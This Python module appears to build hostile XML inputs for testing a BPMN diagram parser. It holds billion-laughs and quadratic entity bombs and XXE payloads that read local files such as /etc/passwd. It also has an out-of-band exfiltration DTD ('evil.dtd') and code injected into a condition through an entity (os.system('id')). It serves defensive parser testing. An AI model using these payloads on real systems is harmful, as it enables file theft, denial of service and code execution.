"""Document types: bombs of entities, entities from elsewhere, and declarations that would change the document."""

from tests.hostile.sample import MARK, Hostile, Traps, behind_declaration, sound


def declared(subset: str, name: str = MARK, kind: str = "bpmn:definitions") -> bytes:
    """Return the diagram with a document type and ``name`` in place of a name."""
    return behind_declaration(f"<!DOCTYPE {kind} {subset}>".encode()).replace(MARK.encode(), name.encode())


def bomb(levels: int, width: int, seed: str = "ha") -> str:
    """Return entities that grow by ``width`` at each level."""
    lines = [f'<!ENTITY e0 "{seed}">']
    lines += [f'<!ENTITY e{level} "{f"&e{level - 1};" * width}">' for level in range(1, levels + 1)]
    return f"[{''.join(lines)}]"


DTDS: dict[str, tuple[str, str]] = {
    "billion-laughs": (bomb(10, 10), "&e10;"),
    "laughs-in-an-attribute": (bomb(9, 10), '&e9;" camunda:formKey="&e9;'),
    "laughs-by-twos": (bomb(40, 2), "&e40;"),
    "few-laughs": (bomb(2, 3), "&e2;"),
    "laughs-unused": (bomb(10, 10), MARK),
    "quadratic-blow-up": (f'[<!ENTITY a "{"a" * 50_000}">]', "&a;" * 5_000),
    "entity-that-calls-itself": ('[<!ENTITY a "&a;">]', "&a;"),
    "entities-in-a-ring": ('[<!ENTITY a "&b;"><!ENTITY b "&c;"><!ENTITY c "&a;">]', "&a;"),
    "parameter-bomb": ("[" + '<!ENTITY % p0 "ha">' + "".join(
        f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 10)) + "%p9;]", MARK),
    "parameter-ring": ("[<!ENTITY % a '&#37;b;'><!ENTITY % b '&#37;a;'>%a;]", MARK),
    "parameter-makes-entity": ("[<!ENTITY % p \"<!ENTITY e 'x'>\">%p;]", "&e;"),
    "unknown-parameter": ("[%nothing;]", MARK),
    "entity-with-markup": ("[<!ENTITY m '<bpmn:userTask id=\"added\"/>'>]", "&m;"),
    "entity-for-lt": ('[<!ENTITY lt "&#38;#60;">]', "&lt;x"),
    "entity-for-amp": ('[<!ENTITY amp "&#38;#38;">]', "&amp;x"),
    "many-entities": ("[" + "".join(f'<!ENTITY e{n} "x">' for n in range(40_000)) + "]", "&e1;"),
    "empty-subset": ("[]", MARK),
    "no-subset": ("", MARK),
    "elements-only": ("[<!ELEMENT a (b*)><!ELEMENT b EMPTY>]", MARK),
    "default-attribute": ('[<!ATTLIST bpmn:process isExecutable CDATA "false">]', MARK),
    "default-namespace": ('[<!ATTLIST bpmn:definitions xmlns:x CDATA "urn:x">]', MARK),
    "default-script": ('[<!ATTLIST bpmn:scriptTask scriptFormat CDATA "groovy">]', MARK),
    "many-default-attributes": ("[" + "".join(
        f'<!ATTLIST bpmn:process a{n} CDATA "x">' for n in range(30_000)) + "]", MARK),
    "notation": ('[<!NOTATION n SYSTEM "calc.exe"><!ENTITY u SYSTEM "u.bin" NDATA n>]', MARK),
    "deep-content-model": ("[<!ELEMENT a " + "(" * 5_000 + "b" + ")" * 5_000 + ">]", MARK),
    "long-comment-in-subset": (f"[<!--{'x' * 500_000}-->]", MARK),
    "instruction-in-subset": ("[<?php system('id') ?>]", MARK),
    "included-section": ("[<![INCLUDE[<!ENTITY a 'x'>]]>]", "&a;"),
    "quoted-bracket": ("[<!ENTITY a ']>'>]", "&a;"),
}  # fmt: skip

OUTSIDE: dict[str, tuple[str, str]] = {
    "file-entity": ('[<!ENTITY x SYSTEM "{file}">]', "&x;"),
    "http-entity": ('[<!ENTITY x SYSTEM "{url}entity">]', "&x;"),
    "ftp-entity": ('[<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">]', "&x;"),
    "php-entity": ('[<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={file}">]', "&x;"),
    "jar-entity": ('[<!ENTITY x SYSTEM "jar:{url}x.jar!/x">]', "&x;"),
    "expect-entity": ('[<!ENTITY x SYSTEM "expect://id">]', "&x;"),
    "gopher-entity": ('[<!ENTITY x SYSTEM "gopher://127.0.0.1:9/_x">]', "&x;"),
    "data-entity": ('[<!ENTITY x SYSTEM "data:text/plain;base64,aGE=">]', "&x;"),
    "device-entity": ('[<!ENTITY x SYSTEM "file:///dev/urandom">]', "&x;"),
    "relative-entity": ('[<!ENTITY x SYSTEM "../../../../../../etc/passwd">]', "&x;"),
    "network-path-entity": ('[<!ENTITY x SYSTEM "//127.0.0.1/share/x">]', "&x;"),
    "public-entity": ('[<!ENTITY x PUBLIC "-//X//EN" "{file}">]', "&x;"),
    "file-parameter": ('[<!ENTITY % x SYSTEM "{file}">%x;]', MARK),
    "http-parameter": ('[<!ENTITY % x SYSTEM "{url}parameter">%x;]', MARK),
    "carried-away": (
        '[<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{url}evil.dtd">%d;%send;]', MARK),
    "error-that-tells": (
        "[<!ENTITY % f SYSTEM \"{file}\"><!ENTITY % e \"<!ENTITY &#37; t SYSTEM 'file:///no/%f;'>\">%e;%t;]", MARK),
    "file-dtd": ('SYSTEM "{file}"', MARK),
    "http-dtd": ('SYSTEM "{url}dtd"', MARK),
    "public-dtd": ('PUBLIC "-//OMG//BPMN 2.0//EN" "{url}dtd"', MARK),
    "http-dtd-and-subset": ('SYSTEM "{url}dtd" [<!ENTITY a "x">]', "&a;"),
    "unused-file-entity": ('[<!ENTITY x SYSTEM "{file}">]', MARK),
}  # fmt: skip


def _outside(subset: str, name: str, traps: Traps) -> bytes:
    return declared(subset.replace("{file}", traps.file_url).replace("{url}", traps.url), name)


def _placed() -> dict[str, bytes]:
    """Return documents whose document type stands somewhere else, or is written in another way."""
    kind = b"<!DOCTYPE x [<!ENTITY a 'x'>]>"
    return {
        "twice": behind_declaration(kind + kind),
        "behind-a-comment": behind_declaration(b"<!-- a --> \n" + kind),
        "behind-an-instruction": behind_declaration(b"<?a b?>" + kind),
        "behind-much-space": behind_declaration(b" \n" * 100_000 + kind),
        "without-declaration": kind + sound().partition(b"?>")[2],
        "in-condition": declared("[<!ENTITY a \"__import__('os').system('id')\">]").replace(
            b"outcome == 'approve'", b"&a;"
        ),
        "half-of-a-condition": declared("[<!ENTITY a \"== 'approve' or open\">]").replace(
            b"outcome == 'approve'", b"outcome &a;"
        ),
    }


def _misplaced() -> dict[str, bytes]:
    kind = b"<!DOCTYPE x [<!ENTITY a 'x'>]>"
    return {
        "behind-the-root": sound() + kind,
        "inside-the-root": sound().replace(b"<bpmn:startEvent", kind + b"<bpmn:startEvent", 1),
        "in-small-letters": behind_declaration(kind.lower()),
    }


FILES = [
    *(Hostile(f"dtd-{name}", "doctype", lambda _, d=d: declared(*d)) for name, d in DTDS.items()),
    *(Hostile(f"dtd-{name}", "doctype", lambda traps, d=d: _outside(*d, traps)) for name, d in OUTSIDE.items()),
    *(Hostile(f"dtd-{name}", "doctype", lambda _, d=d: d) for name, d in _placed().items()),
    *(Hostile(f"dtd-{name}", "not-xml", lambda _, d=d: d) for name, d in _misplaced().items()),
]
